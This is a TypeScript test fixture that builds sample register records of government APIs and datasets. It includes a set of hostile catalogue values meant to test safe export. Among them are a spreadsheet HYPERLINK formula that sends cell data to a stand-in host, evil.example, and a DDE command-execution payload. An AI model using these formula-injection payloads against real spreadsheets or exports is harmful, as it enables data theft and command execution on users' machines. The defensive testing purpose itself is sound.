import {
	assembleRegister,
	type Register,
	type RegisterEntry,
} from '../../src/lib/register/assemble-register.ts';
import type { DataFile } from '../../src/schemas/data-file.ts';
import type { Entry } from '../../src/schemas/entry.ts';
import type { HistoryDay } from '../../src/schemas/history.ts';
import type { Snapshot, SpecCapture } from '../../src/schemas/snapshot.ts';
import { API, DATASET, PUBLISHER, snapshot } from '../helpers/score-fixtures.ts';

/**
 * Values from strangers' catalogues, as hostile as they come: spreadsheet formulas, CSV
 * delimiters, quotes and line breaks, JSON line separators, emoji, and a title far past the
 * entry schema's cap (as if the loader's rules had been bypassed).
 */
export const HOSTILE = {
	formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
	plus: "+1+cmd|'/C calc'!A0",
	minus: '-2+3',
	at: '@SUM(1,1)',
	tab: '\tleading tab',
	cr: '\rleading carriage return',
	punctuation: 'Commas, "quotes", and\nnew\r\nlines; semi;colons',
	separators: 'JSON line\u2028separator and\u2029paragraph',
	emoji: 'Données 🇫🇷 naïve — 数据 🧪',
	long: `Long ${'title '.repeat(400)}`.slice(0, 2000),
} as const;

export const BUILT_AT = new Date('2026-11-26T03:00:00.000Z');

const spec = (fields: Partial<SpecCapture> = {}): SpecCapture => ({
	url: 'https://api.example.gouv.fr/openapi.json',
	format: 'json',
	version: '3.0.3',
	title: 'Sample',
	valid: true,
	errors: [],
	sha256: null,
	bytes: 1000,
	operations: 2,
	parameters: [
		{
			name: 'siren',
			in: 'path',
			type: 'string',
			description: '',
			required: true,
			operation: 'GET /x/{siren}',
			operations: 1,
		},
		{
			name: 'limit',
			in: 'query',
			type: 'integer',
			description: '',
			required: false,
			operation: 'GET /x',
			operations: 1,
		},
		{
			name: 'limit',
			in: 'query',
			type: 'string',
			description: '',
			required: false,
			operation: 'GET /y',
			operations: 1,
		},
	],
	fields: [
		{ name: 'id', type: 'string', description: '', operation: 'GET /x' },
		{ name: 'items[].name', type: 'string', description: '', operation: 'GET /x' },
	],
	truncated: false,
	names: {
		// The complete lists hold more than the detailed ones: those past them have no type.
		parameters: [
			'path:siren',
			'query:limit',
			'header:X-Api-Key',
			`query:${HOSTILE.formula}`,
			'query:a:b',
		],
		fields: ['id', 'items[].name', 'items[].address.city', `${HOSTILE.emoji}`],
	},
	capturedAt: '2026-11-25T02:00:00.000Z',
	fetchError: null,
	...fields,
});

const file = (url: string, columns: DataFile['columns']): DataFile => ({
	url,
	format: 'CSV',
	mediaType: 'text/csv',
	contentType: 'text/csv',
	match: 'match',
	bytes: 100,
	bytesRead: 100,
	ranges: false,
	lastModified: null,
	etag: null,
	ageDays: null,
	stale: null,
	parser: 'csv-parse',
	encoding: 'utf-8',
	delimiter: ',',
	columns,
	columnsTruncated: false,
	rows: 2,
	rowsComplete: true,
	members: [],
	note: null,
});

interface FixtureRecord {
	entry: Entry;
	snapshot?: Snapshot;
	imported?: boolean;
	provenance?: RegisterEntry['provenance'];
}

/** Five records: verified API with a spec, dataset with files, never-verified, imported, hostile. */
export function fixtureRecords(): FixtureRecord[] {
	return [
		{
			entry: {
				...API,
				id: 'fr-sample',
				licence: 'etalab-2.0',
				themes: ['GOVE', 'ECON'],
				baseUrl: 'https://sandbox.example.gouv.fr/v1',
				productionUrl: 'https://api.example.gouv.fr/v1',
				docs: 'https://api.example.gouv.fr/docs',
				spec: { url: 'https://api.example.gouv.fr/openapi.json', format: 'openapi' },
				sources: [{ catalogue: 'api-gouv-fr', url: 'https://api.gouv.fr/les-api/sample' }],
			},
			snapshot: snapshot({ id: 'fr-sample', spec: spec() }),
		},
		{
			entry: {
				...DATASET,
				id: 'fr-sample-data',
				homepage: 'https://www.data.gouv.fr/datasets/sample',
			},
			snapshot: snapshot({
				id: 'fr-sample-data',
				outcome: 'degraded',
				files: [
					file('https://static.data.gouv.fr/a.csv', [
						{ name: 'code', type: 'integer' },
						{ name: HOSTILE.punctuation, type: 'string' },
					]),
					file('https://static.data.gouv.fr/b.csv', [{ name: 'date', type: 'date' }]),
				],
			}),
		},
		{ entry: { ...API, id: 'eu-never-checked', country: 'EU', title: 'Never checked API' } },
		{
			entry: {
				...API,
				id: 'de-imported',
				country: 'DE',
				level: 'local',
				title: 'Imported API',
				access: 'unknown',
			},
			snapshot: snapshot({
				id: 'de-imported',
				outcome: 'down',
				spec: spec({ version: null, names: { parameters: [], fields: [] } }),
			}),
			imported: true,
			provenance: [
				{ source: 'govdata', sourceId: 'x', firstSeen: '2026-11-01' },
				{ source: 'old-portal', sourceId: 'y', firstSeen: '2026-10-01', delistedAt: '2026-11-20' },
			],
		},
		...Object.entries(HOSTILE).map(([name, title]) => ({
			entry: { ...API, id: `fr-hostile-${name}`, title, summary: title },
			// An older capture without the complete name lists: the detailed ones serve.
			snapshot: snapshot({ id: `fr-hostile-${name}`, spec: spec({ names: undefined }) }),
		})),
	];
}

/** The fixture records assembled into a register, with two nights of history. */
export function fixtureRegister(records = fixtureRecords()): Register {
	const days: HistoryDay[] = [
		{
			date: '2026-11-25',
			outcomes: { 'fr-sample': 'U', 'fr-sample-data': 'D', 'de-imported': 'X' },
			changes: [],
			runs: [],
		},
		{
			date: '2026-11-26',
			outcomes: { 'fr-sample': 'U', 'fr-sample-data': 'X', 'de-imported': 'X' },
			changes: [],
			runs: [],
		},
	];
	return assembleRegister(
		records.map((r) => ({
			id: r.entry.id,
			data: r.entry,
			body: 'A description long enough to count as one: it says what the thing offers and who it is for.',
			html: '',
			...(r.imported ? { imported: true } : {}),
			...(r.provenance ? { provenance: r.provenance } : {}),
		})),
		new Map([[PUBLISHER.id, PUBLISHER]]),
		{
			snapshots: new Map(records.flatMap((r) => (r.snapshot ? [[r.entry.id, r.snapshot]] : []))),
			days,
		},
		BUILT_AT,
		() => '',
	);
}
